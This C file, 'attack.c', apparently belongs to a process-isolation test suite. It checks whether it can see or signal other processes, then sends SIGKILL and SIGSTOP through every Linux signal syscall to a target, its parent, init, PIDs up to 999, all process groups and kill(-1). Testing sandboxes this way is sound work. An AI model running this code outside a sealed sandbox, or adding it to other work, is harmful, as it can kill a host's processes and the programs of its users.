/* attack.c - proc-signal-all
 *
 * Sends signals to process 1, to its parent, to every number, to a process outside by its number, and to everybody. If
 * one arrived, it could stop who watches it, or programs of the user. Bare, it only asks whether it could: signal 0. */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static const int signals[] = {SIGSTOP, SIGCHLD, SIGTERM, SIGUSR1, SIGSEGV, 64, SIGKILL};

static void by_every_call(pid_t pid)
{
    int fd = (int)syscall(SYS_pidfd_open, pid, 0);

    for (size_t i = 0; i < sizeof(signals) / sizeof(signals[0]); i++) {
        siginfo_t info = {.si_code = SI_QUEUE, .si_signo = signals[i]};
        int r = kill(pid, signals[i]);
        if (r < 0)
            printf("kill(%d, %d): %s\n", (int)pid, signals[i], strerrorname_np(errno));
        (void)syscall(SYS_tkill, pid, signals[i]);
        (void)syscall(SYS_tgkill, pid, pid, signals[i]);
        (void)syscall(SYS_rt_sigqueueinfo, pid, signals[i], &info);
        (void)syscall(SYS_rt_tgsigqueueinfo, pid, pid, signals[i], &info);
        if (fd >= 0)
            (void)syscall(SYS_pidfd_send_signal, fd, signals[i], NULL, 0);
    }
}

int main(int count, char **words)
{
    pid_t victim = count > 1 ? atoi(words[1]) : 0, neighbours = 0;

    if (victim <= 1)
        return 1;
    for (pid_t pid = 2; pid < 4096; pid++)
        if (pid != getpid() && (kill(pid, 0) == 0 || errno == EPERM))
            neighbours++;
    if (getenv("DRILL_CONTROL"))
        return kill(victim, 0) == 0 ? 10 : 0;
    if (neighbours > 0 || kill(victim, 0) == 0) { /* not alone in here: nothing more is needed, or safe to try */
        printf("it sees %d other processes\n", (int)neighbours);
        return 10;
    }
    by_every_call(victim);
    by_every_call(getppid());
    by_every_call(1);
    for (pid_t pid = 2; pid < 1000; pid++)
        if (pid != getpid())
            (void)kill(pid, SIGKILL);
    (void)kill(-1, SIGSTOP);
    (void)kill(-1, SIGKILL);
    for (pid_t group = 1; group < 1000; group++)
        if (group != getpgrp())
            (void)kill(-group, SIGKILL);
    return 0; /* that it comes to this line, and is counted as ended well, shows that process 1 is there */
}
